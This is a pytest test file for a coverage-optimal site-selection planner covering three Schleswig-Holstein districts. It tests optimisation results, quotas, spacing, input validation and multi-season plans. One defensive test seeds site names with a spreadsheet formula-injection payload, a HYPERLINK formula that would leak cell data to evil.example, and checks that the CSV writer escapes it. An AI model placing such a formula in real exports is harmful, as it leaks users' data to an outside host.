"""Coverage-optimal site selection on the region pack (planner.selection.region)."""

from __future__ import annotations

import dataclasses
import itertools

import numpy as np
import pandas as pd
import pytest

from planner.coverage import site_cell_minutes
from planner.data.pack import RegionPack
from planner.selection import InfeasibleRulesError, SelectionRules
from planner.selection.region import SelectionRequest, demand_weights, select_sites

DISTRICTS = ("Kiel", "Plön", "Rendsburg-Eckernförde")


@pytest.fixture(scope="module")
def small(pack: RegionPack) -> tuple[pd.DataFrame, np.ndarray]:
    """Nine real candidates, three per district, and their minutes to every cell."""
    sites = pd.concat(
        [pack.sites[pack.sites["district"] == d].iloc[::25].head(3) for d in DISTRICTS]
    ).reset_index(drop=True)
    return sites, site_cell_minutes(sites, pack.cells)


def _reached(pack: RegionPack, minutes: np.ndarray, combo: tuple[int, ...], limit: float) -> float:
    """People in the region within ``limit`` minutes of any site in ``combo`` (brute force)."""
    cells = pack.cells
    inside = cells["in_region"].to_numpy(bool)
    near = (minutes[list(combo)] <= limit).any(axis=0) & inside
    return float(cells["population"].to_numpy(float)[near].sum())


def test_demand_weights_count_rural_or_older_people_more() -> None:
    cells = pd.DataFrame(
        {
            "population": [100.0, 50.0, 0.0],
            "pop_65plus": [20.0, np.nan, 0.0],
            "area_class": ["urban", "rural", "rural"],
        }
    )
    assert demand_weights(cells, "population", 3.0).tolist() == [100.0, 50.0, 0.0]
    assert demand_weights(cells, "rural", 3.0).tolist() == [100.0, 150.0, 0.0]
    # 65+ count three times: 100 + 2·20; an unknown 65+ count adds nothing
    assert demand_weights(cells, "age65", 3.0).tolist() == [140.0, 50.0, 0.0]


@pytest.mark.parametrize("p", [1, 2, 3])
def test_mclp_on_the_region_matches_brute_force(
    pack: RegionPack, small: tuple[pd.DataFrame, np.ndarray], p: int
) -> None:
    sites, minutes = small
    selection = select_sites(
        pack, SelectionRequest(p=p, threshold_min=15.0), sites=sites, minutes=minutes
    )
    best = max(
        _reached(pack, minutes, combo, 15.0) for combo in itertools.combinations(range(9), p)
    )
    assert selection.result.status == "optimal"
    assert selection.reached == pytest.approx(best)
    assert selection.result.objective == pytest.approx(best)
    # the figures are recomputed from the cells, per district and in total
    figures = selection.figures.set_index("district_ags")
    assert figures.loc["region", "reached"] == pytest.approx(best)
    assert figures.drop("region")["reached"].sum() == pytest.approx(best)
    assert selection.population == pytest.approx(
        pack.cells.loc[pack.cells["in_region"], "population"].sum()
    )
    chosen = selection.chosen
    assert len(chosen) == p and chosen["chosen"].all()
    # people only one chosen site reaches never exceed what that site reaches
    assert (chosen["reached_only"] <= chosen["reached"]).all()
    assert chosen["reached"].sum() >= selection.reached


def test_quotas_hold_and_every_other_site_has_a_reason(
    pack: RegionPack, small: tuple[pd.DataFrame, np.ndarray]
) -> None:
    sites, minutes = small
    rules = SelectionRules(district_quotas=dict.fromkeys(DISTRICTS, 1))
    selection = select_sites(pack, SelectionRequest(p=3, rules=rules), sites=sites, minutes=minutes)
    assert sorted(selection.chosen["district"]) == sorted(DISTRICTS)
    others = selection.candidates("de")
    assert len(others) == 6
    assert others["reason"].str.len().gt(0).all()
    assert not others["chosen"].any()
    # the exported table: every candidate once, a reason exactly where it was not chosen
    table = selection.table("en")
    assert list(table["site_id"]) == list(sites["site_id"])
    assert ((table["reason"] == "") == table["chosen"]).all()
    assert selection.status_text("de").startswith("Status: optimal (bewiesen) · Zielwert ")
    assert "objective" in selection.status_text("en")


def test_an_impossible_quota_names_the_district(
    pack: RegionPack, small: tuple[pd.DataFrame, np.ndarray]
) -> None:
    sites, minutes = small
    rules = SelectionRules(district_quotas={"Plön": 4})
    with pytest.raises(InfeasibleRulesError) as info:
        select_sites(pack, SelectionRequest(p=4, rules=rules), sites=sites, minutes=minutes)
    assert info.value.rules == ["district_quota[Plön]"]
    assert "Quote für Plön ist 4, der Kreis hat aber nur 3 Kandidaten" in info.value.message("de")


def test_pmedian_reports_the_average_trip(
    pack: RegionPack, small: tuple[pd.DataFrame, np.ndarray]
) -> None:
    sites, minutes = small
    selection = select_sites(
        pack, SelectionRequest(model="pmedian", p=2), sites=sites, minutes=minutes
    )
    cells = pack.cells[(pack.cells["population"] > 0) & pack.cells["in_region"]]
    population = cells["population"].to_numpy(float)
    sub = minutes[:, cells.index.to_numpy()]
    best = min(
        float((population * sub[list(c)].min(axis=0)).sum())
        for c in itertools.combinations(range(9), 2)
    )
    assert selection.result.objective == pytest.approx(best)
    assert selection.average_minutes == pytest.approx(best / population.sum())
    assert "mittlere Fahrt" in selection.status_text("de")


def test_rural_emphasis_weights_the_objective(
    pack: RegionPack, small: tuple[pd.DataFrame, np.ndarray]
) -> None:
    sites, minutes = small
    request = SelectionRequest(p=2, emphasis="rural", emphasis_factor=3.0)
    selection = select_sites(pack, request, sites=sites, minutes=minutes)
    cells = pack.cells[(pack.cells["population"] > 0) & pack.cells["in_region"]]
    weights = demand_weights(cells, "rural", 3.0)
    idx = [sites.index[sites["site_id"] == s][0] for s in selection.result.chosen]
    near = (minutes[idx][:, cells.index.to_numpy()] <= 15.0).any(axis=0)
    assert selection.result.objective == pytest.approx(weights[near].sum())
    rural = selection.chosen["rural_reached"].sum()
    assert rural > 0


@pytest.mark.parametrize(
    ("field", "value"),
    [("p", 0), ("threshold_min", -5.0), ("model", "kmeans"), ("emphasis_factor", 0.5)],
)
def test_bad_requests_name_the_field_and_value(field: str, value: object) -> None:
    with pytest.raises(ValueError, match=f"selection.{field} = {value!r}"):
        SelectionRequest(**{field: value})  # type: ignore[arg-type]


def test_minimum_spacing_keeps_chosen_sites_apart(
    pack: RegionPack, small: tuple[pd.DataFrame, np.ndarray]
) -> None:
    sites, minutes = small
    xy = np.column_stack([sites.geometry.x, sites.geometry.y])
    gaps = np.linalg.norm(xy[:, None] - xy[None, :], axis=2)
    spacing = float(np.median(gaps[gaps > 0]))  # about half of all pairs are closer
    rules = SelectionRules(min_spacing_m=spacing)
    selection = select_sites(pack, SelectionRequest(p=3, rules=rules), sites=sites, minutes=minutes)
    idx = [int(np.flatnonzero(sites["site_id"] == s)[0]) for s in selection.result.chosen]
    assert all(gaps[a, b] >= spacing for a, b in itertools.combinations(idx, 2))
    best = max(
        _reached(pack, minutes, combo, 15.0)
        for combo in itertools.combinations(range(9), 3)
        if all(gaps[a, b] >= spacing for a, b in itertools.combinations(combo, 2))
    )
    assert selection.reached == pytest.approx(best)
    # the sites left out for the rule say which chosen site is too close, in metres
    blocked = [r for r in selection.candidates("en")["reason"] if "too close to chosen site" in r]
    assert blocked and all(f"m < {spacing:,.0f} m spacing" in r for r in blocked)


# --- issue 14: every request field is checked and named; the status and CSV are honest --------


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("p", 2.5),
        ("p", True),
        ("p", "12"),
        ("p", None),
        ("p", 10**30),
        ("threshold_min", float("nan")),
        ("threshold_min", float("inf")),
        ("threshold_min", 0),
        ("emphasis_factor", float("nan")),
        ("emphasis_factor", 1e300),
        ("time_limit", -1.0),
        ("time_limit", float("nan")),
        ("time_limit", 1e12),
        ("seed", -1),
        ("emphasis", None),
        ("model", ["mclp"]),
        ("rules", {"min_spacing_m": 1}),
    ],
)
def test_every_request_field_is_checked(field: str, value: object) -> None:
    from planner.selection.region import SelectionRequestError

    with pytest.raises(SelectionRequestError) as info:
        SelectionRequest(**{field: value})  # type: ignore[arg-type]
    assert info.value.field == field
    assert str(info.value).startswith(f"selection.{field} = ")


def test_request_numbers_are_normalised() -> None:
    request = SelectionRequest(p=np.int64(3), threshold_min=20, time_limit=5)  # type: ignore[arg-type]
    assert type(request.p) is int and type(request.threshold_min) is float
    assert request == SelectionRequest(p=3, threshold_min=20.0, time_limit=5.0)


def test_no_selection_within_the_time_limit_is_said_honestly(
    pack: RegionPack, small: tuple[pd.DataFrame, np.ndarray]
) -> None:
    from planner.selection import SelectionResult

    sites, minutes = small
    selection = select_sites(pack, SelectionRequest(p=2), sites=sites, minutes=minutes)
    assert selection.found
    empty = SelectionResult("MCLP", "no_solution", [], np.nan, np.nan, np.nan, 3.0, {})
    none = dataclasses.replace(selection, result=empty)
    assert not none.found
    assert "nan" not in none.status_text("en")
    assert "this does not prove the rules infeasible" in none.status_text("en")
    assert "unerfüllbar ist damit nicht bewiesen" in none.status_text("de")


def test_selection_csv_goes_through_the_safe_writer(
    pack: RegionPack, small: tuple[pd.DataFrame, np.ndarray]
) -> None:
    import csv
    import io

    sites, minutes = small
    hostile = sites.copy()
    hostile.loc[0, "name"] = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")'
    hostile.loc[1, "name"] = "@SUM(A1)"
    selection = select_sites(pack, SelectionRequest(p=2), sites=hostile, minutes=minutes)
    text = selection.csv_bytes("de").decode("utf-8-sig")
    # the export's layout (separator, translated headers) is the export's: read it as it comes
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    _header, *rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    assert len(rows) == len(sites)
    cells = [v for r in rows for v in r]
    assert "'" + hostile.loc[0, "name"] in cells and "'@SUM(A1)" in cells
    assert not [v for v in cells if v[:1] in ("=", "+", "@")]


# --- issue 16: recency-weighted demand and the multi-season view ---------------------------------


def test_recency_weights_demand_of_a_recently_visited_amt(
    pack: RegionPack, small: tuple[pd.DataFrame, np.ndarray]
) -> None:
    from planner.history import History
    from planner.selection.region import recency_weights

    history = History.from_pack(pack)
    weights = recency_weights(pack, 2026, history=history)
    preetz = pack.cells["ags"].to_numpy() == "01057062"  # Preetz: a stop in 2025
    assert (weights[preetz] == 0.5).all()
    assert (weights[pack.cells["ags"].to_numpy() == "01057001"] == 1.0).all()  # Ascheberg
    sites, minutes = small
    plain = select_sites(pack, SelectionRequest(p=2), sites=sites, minutes=minutes)
    recent = select_sites(
        pack, SelectionRequest(p=2, recency_year=2026), sites=sites, minutes=minutes
    )
    # the objective counts Preetz's people half: never more than without recency
    assert recent.result.objective <= plain.result.objective + 1e-6
    assert SelectionRequest.defaults()["recency_year"] is None  # an option, not the default


def test_multi_season_view_visits_every_amt_within_k_seasons() -> None:
    from test_history import toy_pack

    from planner.selection.seasons import plan_seasons_ahead

    pack = toy_pack(past=[(2025, "01999001")])
    plan = plan_seasons_ahead(pack, seasons=3, per_season=1, time_limit=20)
    assert plan.years == (2026, 2027, 2028)
    assert plan.status == "optimal" and plan.gap <= 1e-4
    visited = [site for season in plan.seasons for site in season]
    assert sorted(visited) == ["s1", "s2", "s3"]  # every Amt, each place once
    # Amt A was visited last season: it comes last, when its people count fully again
    assert plan.seasons[0] != ("s1",)
    assert plan.amt_visits["season"].notna().all()


def test_multi_season_view_names_a_cover_that_cannot_hold() -> None:
    from test_history import toy_pack

    from planner.errors import RulesError
    from planner.selection.seasons import plan_seasons_ahead

    pack = toy_pack()
    with pytest.raises(RulesError, match=r"Testkreis has 3 Ämter but only 1 stops per season × 2"):
        plan_seasons_ahead(pack, seasons=2, per_season=1, quotas={"Testkreis": 1})
    pack.sites = pack.sites[pack.sites["site_id"] != "s3"]
    with pytest.raises(RulesError, match=r"no candidate site in Amt 019990003 Amt C"):
        plan_seasons_ahead(pack, seasons=3, per_season=1)
